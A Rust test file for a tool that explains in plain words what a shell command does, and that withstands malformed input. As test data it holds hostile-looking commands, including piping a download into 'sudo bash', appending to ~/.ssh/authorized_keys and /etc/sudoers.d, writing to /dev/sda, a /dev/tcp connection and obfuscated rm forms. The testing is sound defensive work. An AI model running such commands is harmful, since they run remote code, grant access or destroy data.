//! Tests of what is said of commands, and that no bytes at all bring the reader down.

use proptest::prelude::*;

use super::*;

fn said(command: &str) -> Vec<String> {
    explain(command.as_bytes()).points.into_iter().map(|p| p.text).collect()
}

fn says(command: &str, kind: PointKind, text: &str) {
    let points = explain(command.as_bytes()).points;
    assert!(points.iter().any(|p| p.kind == kind && p.text == text), "{command}: {text}\n{points:#?}");
    assert!(points.iter().all(|p| p.kind != PointKind::Unreadable), "{command}\n{points:#?}");
}

#[test]
fn plain_commands_are_said_plainly() {
    assert_eq!(said(""), Vec::<String>::new());
    assert_eq!(said("df -h"), ["runs `df`"]);
    assert_eq!(said("  # nothing"), Vec::<String>::new());
    assert_eq!(
        said("ps aux | grep nginx > out.txt"),
        ["writes to `out.txt`, and what was in it is gone", "runs `ps`, `grep`", "the output of one command is the input of the next"]
    );
    assert_eq!(
        said("sudo -u www rm -rf /srv/www/* && systemctl restart nginx"),
        [
            "runs as `www`, through sudo",
            "rm removes `/srv/www/*`, with everything in it (-r), without asking (-f); which files is known only when it runs",
            "may change services: `systemctl restart nginx`",
            "runs `sudo`, `rm`, `systemctl`",
            "fills in the names of files that match `/srv/www/*`",
            "runs several commands, one after the other",
            "runs some commands only under a condition",
        ]
    );
}

#[test]
fn each_kind_is_found() {
    use PointKind::*;
    for (command, kind, text) in [
        ("curl -s https://x.example | sudo bash", RunsText, "bash runs its input as commands"),
        ("base64 -d f | sh", RunsText, "sh runs its input as commands"),
        ("cat f | (sh)", RunsText, "sh runs its input as commands"),
        ("cat f | { sh; }", RunsText, "sh runs its input as commands"),
        ("bash -c 'rm -r x'", RunsText, "bash runs this text as commands: `rm -r x`"),
        ("bash -c 'rm -r x'", Removal, "rm removes `x`, with everything in it (-r)"),
        ("bash -lc \"sh -c 'unlink x'\"", Removal, "unlink removes `x`"),
        ("sh -c \"$X\"", RunsText, "sh runs a text as commands that is known only when it runs: `$X`"),
        ("sh <<E\nrm x\nE\n", RunsText, "sh runs its input as commands"),
        ("bash <(curl x)", RunsText, "bash runs the commands that are in `<(…)`"),
        ("bash <(curl x)", Network, "curl may speak to other machines"),
        ("eval rm x", Removal, "rm removes `x`"),
        ("source /tmp/x", RunsText, "runs the commands that are in `/tmp/x`"),
        (". ./x", RunsText, "runs the commands that are in `./x`"),
        ("python3 -c 'print(1)'", RunsText, "python runs this text as a program: `print(1)`"),
        ("curl x | python3 -", RunsText, "python runs its input as a program"),
        ("PATH=/tmp:$PATH ls", RunsText, "sets `PATH`, which decides what programs run or load"),
        ("sudo id", Privilege, "runs as root, through sudo"),
        ("doas -u bob id", Privilege, "runs as `bob`, through doas"),
        ("su - bob -c 'rm x'", Privilege, "runs as `bob`, through su"),
        ("su - bob -c 'rm x'", Removal, "rm removes `x`"),
        ("env -i A=b nohup timeout -s 9 5 nice -n 3 rm x", Removal, "rm removes `x`"),
        ("find . -name '*.o' -exec rm -f {} +", Removal, "rm removes `{}`, without asking (-f)"),
        ("find . -delete", Removal, "find removes the files that it finds"),
        ("ls | xargs rm", Unknown, "xargs adds words that are known only when it runs"),
        ("ls | xargs -n 1 rm", Removal, "rm removes what it is given"),
        ("r\\m 'x y'", Removal, "rm removes `x y`"),
        ("$'\\x72\\155' x", Removal, "rm removes `x`"),
        ("/bin/rm x", Removal, "rm removes `x`"),
        ("$X -r y", Unknown, "which program runs is known only when it runs: `$X`"),
        ("$(echo rm) y", Unknown, "which program runs is known only when it runs: `$(…)`"),
        ("/bin/r? y", Unknown, "which program runs is known only when it runs: `/bin/r?`"),
        ("{rm,-rf,x}", Unknown, "which program runs is known only when it runs: `{rm,-rf,x}`"),
        ("r{m..m} y", Unknown, "which program runs is known only when it runs: `r{m..m}`"),
        ("echo `rm x`", Removal, "rm removes `x`"),
        ("echo \"$(rm x)\"", Removal, "rm removes `x`"),
        ("echo ${a:-$(rm x)}", Removal, "rm removes `x`"),
        ("echo $((1 + $(rm x)))", Removal, "rm removes `x`"),
        ("a=($(rm x) b)", Removal, "rm removes `x`"),
        ("echo x >> ~/.ssh/authorized_keys", Write, "appends to `~/.ssh/authorized_keys`"),
        ("echo x >> ~/.ssh/authorized_keys", Access, "names `~/.ssh/authorized_keys`, where it says who may sign in"),
        ("echo x | sudo tee -a /etc/sudoers.d/x", OutsideHome, "writes outside home: `/etc/sudoers.d/x`"),
        ("echo x | sudo tee -a /etc/sudoers.d/x", Access, "names `/etc/sudoers.d/x`, where it says who may become root"),
        ("dd if=a of=/dev/sda bs=1M", OutsideHome, "writes outside home: `/dev/sda`"),
        ("cp a b /usr/local/bin", OutsideHome, "writes outside home: `/usr/local/bin`"),
        ("mv -t /opt a b", OutsideHome, "writes outside home: `/opt`"),
        ("echo > ../../etc/x", OutsideHome, "may write outside home: `../../etc/x`"),
        ("ls >$F", Unknown, "which file is written is known only when it runs: `$F`"),
        ("sed -i s/a/b/ f", Write, "sed writes `f`"),
        ("curl -o f x", Write, "curl writes `f`"),
        ("wc < in", Read, "reads from `in`"),
        ("wc <<<text", Read, "gives this text as input: `text`"),
        ("cat <<-'E' && rm x\n\t$(a)\n\tE\n", Removal, "rm removes `x`"),
        ("cat <<E\n$(a)\nE\n", Substitution, "fills in variables or the output of commands in the lines that are its input"),
        ("echo $A ${B} \"$C\"", Variable, "fills in variables: `A`, `B`, `C`"),
        ("export A=b", Environment, "sets variables: `A`"),
        ("sleep 9 &", Background, "goes on in the background when the command has ended"),
        ("a; b", Sequence, "runs several commands, one after the other"),
        ("a\nb", Sequence, "runs several commands, one after the other"),
        ("a || b", Control, "runs some commands only under a condition"),
        ("if a; then rm x; fi", Removal, "rm removes `x`"),
        ("for i in 1 2; do rm x; done > log", Removal, "rm removes `x`"),
        ("for i do rm x; done", Removal, "rm removes `x`"),
        ("for ((i=0; i<3; i++)); do rm x; done", Removal, "rm removes `x`"),
        ("while read l; do rm x; done < f", Control, "runs some commands again and again"),
        ("case $1 in\n (a|b) ls;;\n *) rm x;; esac | cat", Removal, "rm removes `x`"),
        ("x=$(case a in a) rm x;; esac)", Removal, "rm removes `x`"),
        ("f() { rm x; }; f", Function, "defines a function `f`"),
        ("function f { rm x; }; f", Removal, "rm removes `x`"),
        ("[[ $a =~ (x|y) && b < c ]] && (( a > 1 )) && rm x", Removal, "rm removes `x`"),
        ("if a; then if b; then rm x; fi fi", Removal, "rm removes `x`"),
        ("ls @(a|b)", Glob, "fills in the names of files that match `@(a|b)`"),
        ("ls 2>&1 >/dev/null | cat", Write, "writes to `/dev/null`, and what was in it is gone"),
        ("apt-get install -y nginx", System, "may change packages: `apt-get install -y nginx`"),
        ("useradd bob", System, "may change users and groups: `useradd bob`"),
        ("echo x > /dev/tcp/192.0.2.1/80", Network, "bash speaks to another machine: `/dev/tcp/192.0.2.1/80`"),
        ("a &> b", Write, "writes to `b`, and what was in it is gone"),
    ] {
        says(command, kind, text);
    }
}

#[test]
fn what_only_shows_is_no_change() {
    for command in ["systemctl status nginx", "apt list", "kubectl get pods", "ls > /dev/null 2>&1", "crontab -l"] {
        let points = explain(command.as_bytes()).points;
        assert!(points.iter().all(|p| !matches!(p.kind, PointKind::System | PointKind::OutsideHome)), "{command}: {points:?}");
    }
}

#[test]
fn what_cannot_be_read_is_said_to_be_so_and_the_rest_is_said_still() {
    for command in [
        "echo 'a",
        "echo \"a",
        "echo `a",
        "echo $(a",
        "echo ${a",
        "(a",
        "a)",
        "if a; then b",
        "done",
        "a >",
        "case x in a) b",
        "f(",
        "a (b)",
        "[[ a",
        "cat <<E\na\n",
        "$((1)",
        "{ a;",
        "a ;; b",
        "fi",
        "for",
        "function",
        "(a) b",
        "$'a",
        "a \"`",
        "then",
        "a > > b",
    ] {
        let points = explain(command.as_bytes()).points;
        assert_eq!(points.first().map(|p| p.kind), Some(PointKind::Unreadable), "{command}: {points:?}");
        assert!(points[0].text.contains("read the bytes"));
    }
    let points = explain(b"sudo rm -r x (").points;
    assert!(points.iter().any(|p| p.kind == PointKind::Privilege) && points.iter().any(|p| p.kind == PointKind::Removal), "{points:?}");
    let long = explain(&vec![b'a'; LENGTH_MAX + 1]).points;
    assert_eq!(
        long,
        [Point { kind: PointKind::Unreadable, text: "at 16385 bytes this is too long to explain: read the bytes".to_owned() }]
    );
}

#[test]
fn pieces_of_the_command_are_harmless() {
    let points = said("rm '\x1b[2J\u{202e}a\nb'");
    assert!(points.contains(&"rm removes `⟨\\x1b⟩[2J⟨\\u{202e}⟩a⟨\\n⟩b`".to_owned()), "{points:?}");
}

#[test]
fn the_weighty_is_said_however_much_else_there_is() {
    let many: String = (0..500).map(|i| format!("cat < f{i};")).collect();
    let points = explain(format!("{many} sudo id").as_bytes()).points;
    assert!(points.len() < POINTS_MAX + 10);
    assert_eq!(points[0].kind, PointKind::Privilege);
    assert_eq!(points.last().map(|p| p.kind), Some(PointKind::More));
}

#[test]
fn deep_nesting_is_refused_in_little_time() {
    let parts = [
        "(",
        "((",
        "$(",
        "$((",
        "${",
        "${a:-",
        "\"$(",
        "`",
        "\\`",
        "{ ",
        "if ",
        "case a in ",
        "case a in a) ",
        "while ",
        "<(",
        "[[ ",
        "a=(",
        "@(",
        "<<E\n",
        "<<a <<b ",
        "'",
        "\"",
        "f() ",
        "function ",
        "for a in ",
        "!",
        "&",
        "|",
        ";",
        "sh -c '",
        "eval ",
        "bash -c \"",
        "sudo ",
        "find -exec ",
        "{a,",
        "$'\\x",
        ">",
        "\\\n",
        "{",
        "a\n",
    ];
    for part in parts {
        for more in ["", "a", "a)", ";"] {
            let text = part.repeat(10_000) + more;
            explain(text.as_bytes());
            explain(&text.as_bytes()[..text.len().min(LENGTH_MAX)]);
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 2000, failure_persistence: None, ..ProptestConfig::default() })]
    #[test]
    fn any_bytes_are_explained(bytes in proptest::collection::vec(any::<u8>(), 0..300)) {
        explain(&bytes);
    }

    #[test]
    fn anything_like_a_command_is_explained(parts in proptest::collection::vec(proptest::sample::select(vec![
        "(", ")", "$(", "((", "))", "${", "}", "`", "\"", "'", "\\", "\n", ";", ";;", "&", "&&", "|", "||", "<", ">", "<<E\n", "E\n", "E", "<<<", "<(", "&>", ">&", "2>",
        "if ", "then ", "fi ", "for ", "in ", "do ", "done ", "case ", "esac ", "while ", "{ ", "[[ ", " ]]", "function ", "a", "rm ", "sudo ", "sh ", "-c ", "eval ", "=",
        "a=(", "$a", "$'", "*", "?", "{a,b}", "#", " ", "\t", "find ", "-exec ", "xargs ", "env ", "-u ", "\u{202e}", "\x1b", "tee ", "dd ", "of=", "su ", "!",
    ]), 0..60)) {
        let text = parts.concat();
        let points = explain(text.as_bytes()).points;
        prop_assert!(points.len() < POINTS_MAX + 10);
        prop_assert!(points.windows(2).all(|w| w[0].kind <= w[1].kind));
        for point in &points {
            prop_assert!(point.text.chars().all(|c| !c.is_control() && c != '\u{202e}'), "{}", point.text);
        }
        prop_assert_eq!(explain(text.as_bytes()).points, points);
    }
}
